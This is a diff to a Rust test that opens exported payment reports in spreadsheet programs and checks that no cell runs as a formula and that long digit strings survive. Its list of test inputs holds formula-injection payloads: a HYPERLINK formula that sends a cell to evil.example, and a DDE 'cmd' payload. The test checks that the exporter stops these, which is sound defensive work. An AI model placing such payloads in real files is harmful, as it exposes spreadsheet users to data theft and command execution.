@@ -12,7 +12,7 @@ use crate::mouth;
 use crate::world::{Setup, World};
 
 /// Texts that spreadsheets are known to run.
-const FORMULAS: [&str; 12] = [
+const FORMULAS: [&str; 15] = [
     "=1+1",
     "=HYPERLINK(\"http://evil.example/?\"&A1,\"pay\")",
     "=cmd|' /C calc'!A0",
@@ -25,6 +25,10 @@ const FORMULAS: [&str; 12] = [
     "=SUM(A1:A9)",
     "\"=1+1\"",
     "\u{ff1d}1+1",
+    // Where lines are split at semicolons.
+    "late;=1+1",
+    "late; =1+1",
+    "late;\"=1+1\"",
 ];
 
 /// Texts of digits, as gateways and people write them.
@@ -48,6 +52,7 @@ const DIGITS: [&str; 12] = [
 struct Cell {
     text: String,
     runs: bool,
+    is_number: bool,
 }
 
 type Sheet = Vec<Vec<Cell>>;
@@ -79,6 +84,11 @@ fn installed() -> Vec<&'static str> {
 
 /// Opens a CSV file as a double click does, and returns what the program made of it.
 fn opened(program: &str, folder: &Path, file: &str) -> Sheet {
+    opened_at(',', program, folder, file)
+}
+
+/// The same, where the country's lists are separated by another sign.
+fn opened_at(separator: char, program: &str, folder: &Path, file: &str) -> Sheet {
     let out = folder.join(format!("opened-by-{program}"));
     fs::create_dir_all(&out).unwrap();
     let mut command = Command::new(program);
@@ -99,13 +109,12 @@ fn opened(program: &str, folder: &Path, file: &str) -> Sheet {
                 "-env:UserInstallation=file://{}/profile",
                 out.display()
             ))
-            .args([
-                "--headless",
-                "--infilter=CSV:44,34,76",
-                "--convert-to",
-                "fods",
-                "--outdir",
-            ])
+            .arg("--headless")
+            .args(
+                file.ends_with(".csv")
+                    .then(|| format!("--infilter=CSV:{},34,76", u32::from(separator))),
+            )
+            .args(["--convert-to", "fods", "--outdir"])
             .arg(&out)
             .arg(file);
         out.join(format!("{stem}.fods"))
@@ -131,6 +140,7 @@ fn gnumeric(document: &roxmltree::Document<'_>) -> Sheet {
         let blank = Cell {
             text: String::new(),
             runs: false,
+            is_number: false,
         };
         if sheet.len() <= row {
             sheet.resize(row + 1, Vec::new());
@@ -143,6 +153,7 @@ fn gnumeric(document: &roxmltree::Document<'_>) -> Sheet {
         sheet[row][column] = Cell {
             text: cell.text().unwrap_or_default().to_owned(),
             runs,
+            is_number: matches!(cell.attribute("ValueType"), Some("30" | "40")),
         };
     }
     sheet
@@ -187,6 +198,7 @@ fn open_document(document: &roxmltree::Document<'_>) -> Sheet {
             let made = Cell {
                 text,
                 runs: attribute(&cell, "formula").is_some(),
+                is_number: number,
             };
             let times = attribute(&cell, "number-columns-repeated")
                 .map_or(1, |times| times.parse().unwrap());
@@ -300,43 +312,53 @@ fn no_cell_of_the_report_runs_and_no_digit_is_lost_in_a_spreadsheet() {
     assert_eq!(rows.len(), FORMULAS.len() + DIGITS.len());
     for program in programs {
         would_notice(program, &folder);
-        let sheet = opened(program, &folder, "payments.csv");
-        let header: Vec<&str> = sheet[0].iter().map(|cell| cell.text.as_str()).collect();
-        let mut compared = 0;
-        for (row, cells) in rows.iter().zip(&sheet[1..]) {
-            for (name, cell) in header.iter().zip(cells) {
-                assert!(!cell.runs, "{program} runs {name}: {cell:?}");
-                let raw = &row[*name];
-                let Some(raw) = raw.as_str().filter(|raw| {
-                    !digits(raw).is_empty()
-                        && !name.ends_with("_at")
-                        && !name.starts_with("electricity")
-                }) else {
-                    continue;
-                };
-                compared += 1;
-                if *name == "amount" {
-                    // A number, to be added up: its last zero may go.
-                    let value: f64 = cell
-                        .text
-                        .parse()
-                        .unwrap_or_else(|_| panic!("{program}: {cell:?}"));
-                    assert_eq!(format!("{value:.2}"), raw, "{program}: {cell:?}");
-                } else {
-                    let shown = cell.text.trim_start_matches('\'');
-                    assert_eq!(
-                        shown,
-                        raw.trim_start_matches('\''),
-                        "{program}: {name} of {row}"
-                    );
+        if program == "soffice" {
+            let elsewhere = opened_at(';', program, &folder, "payments.csv");
+            let mut cells = elsewhere.iter().flatten();
+            assert!(!cells.any(|cell| cell.runs), "{elsewhere:?}");
+        }
+        for file in ["payments.csv", "payments.xlsx"] {
+            let sheet = opened(program, &folder, file);
+            let header: Vec<&str> = sheet[0].iter().map(|cell| cell.text.as_str()).collect();
+            let mut compared = 0;
+            for (row, cells) in rows.iter().zip(&sheet[1..]) {
+                for (name, cell) in header.iter().zip(cells) {
+                    assert!(!cell.runs, "{program} runs {name}: {cell:?}");
+                    let raw = &row[*name];
+                    let Some(raw) = raw.as_str().filter(|raw| {
+                        !digits(raw).is_empty()
+                            && !name.ends_with("_at")
+                            && !name.starts_with("electricity")
+                    }) else {
+                        continue;
+                    };
+                    compared += 1;
+                    if *name == "amount" {
+                        // A number, to be added up: its last zero may go.
+                        let value: f64 = cell
+                            .text
+                            .parse()
+                            .unwrap_or_else(|_| panic!("{program}: {cell:?}"));
+                        assert_eq!(format!("{value:.2}"), raw, "{program}: {cell:?}");
+                    } else {
+                        let shown = cell.text.trim_start_matches('\'').replace(";'", ";");
+                        assert_eq!(
+                            shown,
+                            raw.trim_start_matches('\''),
+                            "{program}: {file}: {name} of {row}"
+                        );
+                        // A spreadsheet shows a number of twelve digits as 2.547E+11.
+                        let is_text = !cell.is_number || file == "payments.csv";
+                        assert!(is_text, "{program}: {name}: {cell:?}");
+                    }
                 }
             }
+            assert!(compared > 7 * rows.len(), "{compared} cells were compared");
+            println!(
+                "{program}: {file}: {} rows opened, {compared} cells kept every digit, none runs",
+                rows.len()
+            );
         }
-        assert!(compared > 7 * rows.len(), "{compared} cells were compared");
-        println!(
-            "{program}: {} rows opened, {compared} cells kept every digit, none runs",
-            rows.len()
-        );
     }
 }
 
